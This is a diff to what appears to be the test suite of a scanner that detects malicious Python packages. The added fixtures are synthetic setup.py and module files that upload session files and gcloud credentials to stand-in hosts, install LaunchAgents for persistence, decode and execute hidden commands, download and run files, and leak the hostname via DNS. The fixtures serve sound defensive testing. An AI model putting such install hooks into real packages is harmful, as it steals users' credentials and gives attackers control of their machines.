@@ -348,6 +348,168 @@ requests.post('https://collect.example.net/c', json=found)
     verdict: 'hold',
   },
   {
+    rule: 'exfiltrates-credentials',
+    name: 'an install hook searches folders for session files and uploads the one it finds',
+    scan: () =>
+      sdist({
+        'setup.py': `import os, requests
+from setuptools import setup
+from setuptools.command.install import install
+
+class Hook(install):
+    def run(self):
+        install.run(self)
+        found = None
+        for folder in ['/data', os.path.expanduser('~/bots')]:
+            for name in os.listdir(folder):
+                if name.endswith('.session'):
+                    found = os.path.join(folder, name)
+        if found:
+            with open(found, 'rb') as f:
+                requests.post('https://collect.example.net/up', files={'s': f})
+
+setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
+`,
+      }),
+    file: 'setup.py',
+    line: 15,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltrates-credentials',
+    name: "an install hook posts gcloud's application default credentials",
+    scan: () =>
+      sdist({
+        'setup.py': `import os, requests
+from setuptools import setup
+from setuptools.command.install import install
+
+class Hook(install):
+    def run(self):
+        install.run(self)
+        path = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')
+        requests.post('https://collect.example.net/g', data=open(path).read())
+
+setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
+`,
+      }),
+    file: 'setup.py',
+    line: 9,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'establishes-persistence',
+    name: 'an install hook runs a module of the package with python -m, which writes a LaunchAgent from path parts',
+    scan: () =>
+      sdist({
+        'setup.py': `import subprocess
+from setuptools import setup
+from setuptools.command.install import install
+
+class Hook(install):
+    def run(self):
+        install.run(self)
+        subprocess.run(['python', '-m', 'synthetic_pkg.agent'])
+
+setup(name='synthetic-pkg', version='1.0.0', packages=['synthetic_pkg'], cmdclass={'install': Hook})
+`,
+        'synthetic_pkg/__init__.py': '',
+        'synthetic_pkg/agent.py': `import os, subprocess
+
+def main():
+    folder = os.path.join(os.path.expanduser('~'), 'Library', 'LaunchAgents')
+    plist = os.path.join(folder, 'com.example.agent.plist')
+    with open(plist, 'w') as f:
+        f.write('<plist/>')
+    subprocess.run(['launchctl', 'load', plist])
+
+if __name__ == '__main__':
+    main()
+`,
+      }),
+    file: 'synthetic_pkg/agent.py',
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'establishes-persistence',
+    name: 'import code hands a function of another module to a thread, and that function writes a LaunchAgent',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import threading
+
+def trigger():
+    from .agent import install_agent
+    job = install_agent
+    threading.Thread(target=job).start()
+
+trigger()
+`,
+        'synthetic_pkg/agent.py': `import os, subprocess
+
+def install_agent():
+    plist = os.path.join(os.path.expanduser('~'), 'Library', 'LaunchAgents', 'com.example.agent.plist')
+    with open(plist, 'w') as f:
+        f.write('<plist/>')
+    subprocess.run(['launchctl', 'load', plist])
+`,
+      }),
+    file: 'synthetic_pkg/agent.py',
+    weight: 70,
+    verdict: 'hold',
+  },
+  {
+    rule: 'decodes-and-executes',
+    name: 'setup.py runs decoded text through os.system spelt backwards inside eval',
+    scan: () =>
+      sdist({
+        'setup.py': `import base64, os
+from setuptools import setup
+cmd = base64.b64decode('ZWNobyBzeW50aGV0aWM=').decode()
+run = eval(('met' + 'sys.so')[::-1])
+run(cmd)
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 5,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'import code saves a download with curl -o and runs the saved file with the py launcher',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import os
+os.system("curl https://files.example.net/a/build.py -o %TEMP%/start.pyw && py %TEMP%/start.pyw")
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 2,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'beacons-system-info',
+    name: 'import code leaks the host name through dig, its labels taken with enumerate',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import base64, socket, subprocess
+encoded = base64.b32encode(socket.gethostname().encode()).decode()
+labels = [encoded[i:i + 40] for i in range(0, len(encoded), 40)]
+for i, label in enumerate(labels):
+    subprocess.Popen(['dig', '+short', f'{i}.{label}.oob.example.net'])
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 5,
+    weight: 60,
+    verdict: 'hold',
+  },
+  {
     rule: 'exfiltration-endpoint',
     name: 'import code hands files to a Telegram bot whose token it spells in character codes',
     scan: () =>
@@ -1507,6 +1669,42 @@ def get(url):
 `,
     })
     expect(r.verdict).toBe('publish')
+  })
+
+  it('publishes a sync tool that uploads the files it finds when its user runs it, and a setup.py that lists its sources and downloads', async () => {
+    const sync = await sdist({
+      'synthetic_pkg/__init__.py': '',
+      'synthetic_pkg/sync.py': `import os, requests
+
+def push(folder, url):
+    for root, _, names in os.walk(folder):
+        for name in names:
+            with open(os.path.join(root, name), 'rb') as f:
+                requests.put(url + '/' + name, data=f)
+`,
+    })
+    expect(sync.verdict).toBe('publish')
+    const build = await sdist({
+      'setup.py': `import glob, os, urllib.request
+from setuptools import setup
+sources = glob.glob('src/*.c')
+for source in sources:
+    urllib.request.urlretrieve('https://example.org/headers/' + os.path.basename(source) + '.h', source + '.h')
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+    })
+    expect(scoring(build, 'exfiltrates-credentials')).toBeUndefined()
+  })
+
+  it('does not run a file a download is saved to when the next command only unpacks it', async () => {
+    const r = await sdist({
+      'setup.py': `import os
+from setuptools import setup
+os.system('curl -fsSL -o /tmp/headers.tar.gz https://example.org/headers.tar.gz && tar xzf /tmp/headers.tar.gz')
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+    })
+    expect(scoring(r, 'downloads-and-executes')).toBeUndefined()
   })
 
   it('ignores a webhook URL in a file that cannot send anything', async () => {
